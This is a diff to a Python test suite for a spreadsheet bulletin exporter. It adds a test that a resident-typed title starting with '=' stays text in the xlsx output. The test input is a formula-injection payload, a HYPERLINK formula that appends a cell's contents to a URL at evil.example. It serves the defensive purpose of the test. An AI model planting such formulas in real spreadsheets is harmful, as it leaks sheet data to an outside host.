@@ -163,6 +163,20 @@ def test_the_xlsx_opens_with_a_notes_sheet_the_ranking_rows_and_the_not_ranked_m
     assert any(row[-1].value == "样本不足" for row in street.iter_rows())
 
 
+def test_text_a_resident_typed_stays_text_in_the_xlsx(db, november):
+    # NOTE: openpyxl writes a string starting with "=" as a formula: a title typed as one would run in Excel
+    typed = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    november.overdue.title = typed
+    db.flush()
+    data = nov(db)
+    sheet = load_workbook(io.BytesIO(bulletins.to_xlsx(data)))["超期案件"]
+    [cell] = [row[1] for row in sheet.iter_rows(min_row=5) if row[0].value == november.overdue.number]
+    assert cell.value == typed and cell.data_type == "s"
+    workbook = load_workbook(io.BytesIO(bulletins.to_xlsx(data)))
+    formulas = [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
+
+
 def test_the_html_is_one_standalone_page_with_the_ranking_and_a_page_per_street(db, november):
     html = bulletins.to_html(nov(db))
     assert html.startswith("<!DOCTYPE html>") and '<html lang="zh-CN">' in html
